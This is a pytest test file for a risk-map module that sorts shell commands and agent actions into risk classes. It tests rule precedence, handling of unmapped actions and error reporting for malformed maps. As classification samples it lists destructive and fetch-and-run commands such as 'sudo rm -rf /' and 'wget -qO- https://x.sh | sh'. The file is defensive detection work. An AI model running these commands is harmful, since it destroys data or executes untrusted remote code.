"""Risk maps: rules, the shipped default map, unmapped actions, bad maps."""

from __future__ import annotations

import re
import tomllib
from pathlib import Path

import pyarrow as pa
import pytest

from tcpkit.detect.riskmap import (
    FAMILIES,
    RiskMap,
    RiskMapError,
    apply_risk_map,
    catalogue_families,
    default_risk_map,
    load_risk_map,
)
from tcpkit.detect.simulate import CATALOGUE

ROOT = Path(__file__).resolve().parents[1]
FILL = {
    "dir": "/srv/app",
    "file": "notes.txt",
    "pattern": "TODO",
    "url": "https://example.org/x.sh",
    "user": "alice",
    "host": "db1",
    "package": "requests",
    "binary": "/usr/bin/find",
    "ref": "HEAD~1",
}


def _filled(command: str) -> str:
    return re.sub(r"\{([a-z_]+)\}", lambda m: FILL[m.group(1)], command)


def _map(tmp_path: Path, text: str) -> RiskMap:
    path = tmp_path / "map.toml"
    path.write_text(text, encoding="utf-8")
    return load_risk_map(path)


@pytest.mark.parametrize("template", CATALOGUE, ids=lambda t: t.command)
def test_default_map_gives_every_catalogue_command_its_true_class(template) -> None:
    rm = default_risk_map()
    actions = pa.array([template.command, _filled(template.command)])
    classes, rule = rm.classify(actions)
    assert classes.to_pylist() == [template.risk_class] * 2
    assert (rule >= 0).all()
    fam = catalogue_families(actions)
    assert [FAMILIES[f] for f in fam] == [template.family] * 2


@pytest.mark.parametrize(
    ("action", "expected"),
    [
        ("sudo rm -rf /", "CRITICAL"),
        ("wget -qO- https://x.sh | sh", "CRITICAL"),
        ("git push --force origin main", "DESTRUCTIVE"),
        ("pkill python", "DESTRUCTIVE"),
        ("sudo systemctl restart nginx", "PRIVESC"),
        ("chmod 755 run.sh", "PRIVESC"),
        ("npm install left-pad", "NETWORK"),
        ("git clone https://example.org/r.git", "NETWORK"),
        ("head -n 5 README.md", "SAFE"),
        ("pytest -q", "SAFE"),
    ],
)
def test_default_map_covers_common_shell_commands(action: str, expected: str) -> None:
    classes, _ = default_risk_map().classify(pa.array([action]))
    assert classes.to_pylist() == [expected]


def test_default_map_is_package_data() -> None:
    config = tomllib.loads((ROOT / "pyproject.toml").read_text())
    globs = config["tool"]["setuptools"]["package-data"]["tcpkit.detect"]
    shipped = ROOT / "tcpkit" / "detect" / "data" / "default_risk_map.toml"
    assert shipped.is_file()
    assert any(Path("data/default_risk_map.toml").match(g) for g in globs)


def test_exact_names_win_over_patterns_and_first_pattern_wins(tmp_path: Path) -> None:
    rm = _map(
        tmp_path,
        '[tools]\n"rm -rf build" = "SAFE"\n'
        "[patterns]\n'^rm' = \"DESTRUCTIVE\"\n'^rm -f' = \"CRITICAL\"\n",
    )
    classes, rule = rm.classify(pa.array(["rm -rf build", "rm -f x", "ls"]))
    assert classes.to_pylist() == ["SAFE", "DESTRUCTIVE", None]
    assert [rm.rules[r] if r >= 0 else None for r in rule] == ["tool:rm -rf build", "pattern:^rm", None]
    swapped = _map(tmp_path, "[patterns]\n'^rm -f' = \"CRITICAL\"\n'^rm' = \"DESTRUCTIVE\"\n")
    assert swapped.classify(pa.array(["rm -f x"]))[0].to_pylist() == ["CRITICAL"]


def test_patterns_search_anywhere_unless_anchored(tmp_path: Path) -> None:
    rm = _map(tmp_path, "[patterns]\n'send_money' = \"critical\"\n")
    assert rm.classify(pa.array(["tool.send_money.v2"]))[0].to_pylist() == ["CRITICAL"]


def test_unmapped_actions_are_counted_never_dropped(tmp_path: Path) -> None:
    rm = _map(tmp_path, '[tools]\nsend_money = "CRITICAL"\n')
    table = pa.table(
        {
            "agent": ["a"] * 5,
            "action": ["send_money", "mystery", "mystery", "other", "own"],
            "risk_class": [None, None, None, None, "SAFE"],
        }
    )
    mapped = apply_risk_map(table, rm)
    assert mapped.table.num_rows == 5
    assert mapped.table.column("risk_class").to_pylist() == ["CRITICAL", None, None, None, "SAFE"]
    assert mapped.unmapped == {"mystery": 2, "other": 1}


def test_the_logs_own_class_wins_over_the_map(tmp_path: Path) -> None:
    rm = _map(tmp_path, '[tools]\nls = "CRITICAL"\n')
    table = pa.table({"action": ["ls", "ls"], "risk_class": ["SAFE", None]})
    assert apply_risk_map(table, rm).table.column("risk_class").to_pylist() == ["SAFE", "CRITICAL"]


def test_map_without_risk_class_column_adds_it() -> None:
    mapped = apply_risk_map(pa.table({"action": ["git status", "zzz"]}))
    assert mapped.table.column("risk_class").to_pylist() == ["SAFE", None]
    assert mapped.unmapped == {"zzz": 1}


@pytest.mark.parametrize(
    ("text", "needle"),
    [
        ("[patterns]\n'^rm(' = \"DESTRUCTIVE\"\n", "[patterns] key '^rm(': bad pattern"),
        ("[patterns]\n'(?=x)' = \"SAFE\"\n", "key '(?=x)': bad pattern"),  # Python re, not RE2
        ('[tools]\nls = "HARMLESS"\n', "[tools] key 'ls': unknown risk class 'HARMLESS'"),
        ("[patterns]\n'^ls' = 3\n", "[patterns] key '^ls': unknown risk class 3"),
        ('[rules]\nls = "SAFE"\n', "unknown table [rules]"),
        ("[tools\n", "not valid TOML"),
        ('tools = "x"\n', "[tools] must be a table"),
    ],
)
def test_bad_maps_name_the_file_and_key(tmp_path: Path, text: str, needle: str) -> None:
    with pytest.raises(RiskMapError) as info:
        _map(tmp_path, text)
    assert str(tmp_path / "map.toml") in str(info.value)
    assert needle in str(info.value)


def test_missing_map_file(tmp_path: Path) -> None:
    with pytest.raises(RiskMapError, match="cannot read"):
        load_risk_map(tmp_path / "nope.toml")


def test_catalogue_families_leave_other_actions_out() -> None:
    fam = catalogue_families(pa.array(["git status", "send_money", "rm -rf / --no-preserve-root"]))
    assert fam[1] == -1
    assert FAMILIES[fam[0]] == "vcs" and FAMILIES[fam[2]] == "rm"
